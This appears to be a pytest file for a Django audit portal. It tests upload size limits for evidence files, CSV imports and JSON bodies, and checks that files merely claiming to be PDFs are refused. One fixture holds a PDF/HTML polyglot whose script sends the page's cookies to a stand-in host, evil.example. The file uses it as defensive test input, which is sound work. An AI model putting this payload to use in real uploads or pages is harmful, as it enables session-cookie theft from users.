"""Upload limits hold before the body reaches disk (issue 10, finding 6), and a PDF must be one
(finding 8)."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.urls import reverse

from assessments.evidence import pdf_refusal
from assessments.models import EvidenceFile
from metrics.models import ImportRecord
from tests.assessments.factories import PDF_BYTES, audit_for
from tests.conftest import PortalClient
from tests.designation.factories import enrollment_at

pytestmark = pytest.mark.django_db
MB = 1024 * 1024


class DiskSpy(FileUploadHandler):
    """Sits where the temporary-file handler sits: records the most bytes handed on to disk."""

    most = 0

    def new_file(self, *args, **kwargs):
        super().new_file(*args, **kwargs)
        self.received = 0

    def receive_data_chunk(self, raw_data, start):
        self.received += len(raw_data)
        DiskSpy.most = max(DiskSpy.most, self.received)
        return raw_data

    def file_complete(self, file_size):
        return None


@pytest.fixture
def spy(settings, tmp_path):
    DiskSpy.most = 0
    settings.MEDIA_ROOT = tmp_path / "evidence"
    settings.FILE_UPLOAD_HANDLERS = [
        *settings.FILE_UPLOAD_HANDLERS[:1],  # the limit comes first, as in production
        "tests.security.test_upload_limits.DiskSpy",
        *settings.FILE_UPLOAD_HANDLERS[1:],
    ]
    return DiskSpy


@pytest.fixture
def capability(org, auditor):
    return audit_for(enrollment_at("capability", organization=org), "capability", auditor=auditor)


def evidence_post(client, audit, content: bytes, name="big.pdf"):
    return client.post(
        reverse("audit-evidence", args=[audit.pk]),
        {"component": "processes_procedures", "file": SimpleUploadedFile(name, content)},
        format="multipart",
    )


def test_an_evidence_file_over_25_mb_stops_at_the_limit(api_client, partner_admin, capability, spy):
    api_client.force_authenticate(partner_admin)
    response = evidence_post(api_client, capability, PDF_BYTES + b"0" * (25 * MB))
    assert response.status_code == 400
    assert "evidence files may be at most 25 MB each" in response.json()["detail"]
    assert spy.most <= 25 * MB  # never more than the limit went on towards the disk
    assert not EvidenceFile.objects.exists()


def test_a_body_declared_far_over_the_limit_is_refused_before_any_of_it_is_read(
    api_client, partner_admin, org, spy
):
    api_client.force_authenticate(partner_admin)
    url = reverse("api-cases-import", args=[org.pk])
    body = b"case_id,opened_on,program,customer_tenant_id,severity,title\n" + b"x" * (60 * MB)
    response = api_client.post(url, {"file": SimpleUploadedFile("cases.csv", body)})
    assert response.status_code == 400
    assert "imported files may be at most 50 MB each" in response.json()["detail"]
    assert spy.most == 0
    assert not ImportRecord.objects.exists()


def test_the_evidence_page_form_answers_the_limit_in_words(partner_admin, capability, spy):
    client = PortalClient()
    client.force_login(partner_admin)
    response = client.post(
        reverse("audit-evidence-form", args=[capability.pk]),
        {"component": "processes_procedures", "file": SimpleUploadedFile("a.pdf", b"0" * 26 * MB)},
    )
    assert response.status_code == 400
    assert "evidence files may be at most 25 MB each" in response.content.decode()
    assert spy.most <= 25 * MB


def test_a_json_body_over_the_memory_limit_is_refused(api_client, auditor):
    api_client.force_authenticate(auditor)
    body = b'{"reason": "' + b"x" * (6 * MB) + b'"}'
    response = api_client.post(reverse("enrollment-list"), body, content_type="application/json")
    assert response.status_code == 400
    assert "larger than 5 MB" in response.json()["detail"]


POLYGLOT = (
    b"%PDF-1.4\n<html><body><script>document.location='https://evil.example/'+document.cookie"
    b"</script></body></html>\n" + PDF_BYTES[PDF_BYTES.index(b"\n") + 1 :]
)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (POLYGLOT, "also reads as a web page"),
        (b"%PDF-1.7\nthis is not a PDF at all\n%%EOF\n", "does not open as one"),
        (PDF_BYTES[: len(PDF_BYTES) // 2], "does not open as one"),
    ],
)
def test_a_file_that_only_claims_to_be_a_pdf_is_refused(
    api_client, partner_admin, capability, spy, content, why
):
    assert pdf_refusal_of(content) is not None
    api_client.force_authenticate(partner_admin)
    response = evidence_post(api_client, capability, content, name="report.pdf")
    assert response.status_code == 400
    assert why in response.json()["detail"]
    assert not EvidenceFile.objects.exists()


def test_a_real_pdf_is_accepted(api_client, partner_admin, capability, spy):
    assert pdf_refusal_of(PDF_BYTES) is None
    api_client.force_authenticate(partner_admin)
    assert evidence_post(api_client, capability, PDF_BYTES, name="ok.pdf").status_code == 201


def pdf_refusal_of(content: bytes):
    import io

    return pdf_refusal(io.BytesIO(content))
